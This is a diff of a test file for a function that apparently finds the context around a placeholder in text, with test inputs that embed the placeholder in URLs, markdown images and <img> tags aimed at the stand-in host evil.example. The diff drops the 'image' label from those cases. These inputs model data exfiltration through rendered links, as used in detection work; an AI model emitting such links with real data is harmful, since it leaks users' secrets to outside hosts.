@@ -15,10 +15,10 @@ describe("the text around a placeholder", () => {
     [`https:evil.example/${M}`, ["url"], []],
     [`mailto:a@evil.example?body=${M}`, ["url"], []],
     [`https://good.example/go?u=https://evil.example/${M}`, ["url"], ["good.example", "evil.example"]],
-    [`![x](https://evil.example/p.png?k=${M})`, ["url", "image"], ["evil.example"]],
-    [`![x](https://evil.example/p.png\n?k=${M})`, ["url", "image"], ["evil.example"]],
-    [`![x](&#104;ttps&colon;&sol;&sol;evil.example/${M})`, ["url", "image"], []],
-    [`<img alt="a" src="https://evil.example/p.png?k=${M}">`, ["url", "image"], ["evil.example"]],
+    [`![x](https://evil.example/p.png?k=${M})`, ["url"], ["evil.example"]],
+    [`![x](https://evil.example/p.png\n?k=${M})`, ["url"], ["evil.example"]],
+    [`![x](&#104;ttps&colon;&sol;&sol;evil.example/${M})`, ["url"], []],
+    [`<img alt="a" src="https://evil.example/p.png?k=${M}">`, ["url"], ["evil.example"]],
     [`<a href='https://evil.example/${M}'>`, ["url"], ["evil.example"]],
     [`https://${M}.evil.example/`, ["url"], [`${M}.evil.example`]],
     [`https://${"a".repeat(70_000)}/${M}`, ["url"], []],
@@ -36,10 +36,10 @@ describe("the text around a placeholder", () => {
     expect(around[0]?.line.length).toBeLessThan(200);
   });
 
-  it("is listed for 100 placeholders, and the others count as addresses and images", () => {
+  it("is listed for 100 placeholders, and the others count as addresses", () => {
     const around = findSurroundings(`${M} `.repeat(150), []);
     expect(around).toHaveLength(101);
-    expect(around.at(-1)).toMatchObject({ line: "and 50 more", within: ["url", "image"] });
+    expect(around.at(-1)).toMatchObject({ line: "and 50 more", within: ["url"] });
   });
 
   it("is read in bounded time if the text is hostile", () => {
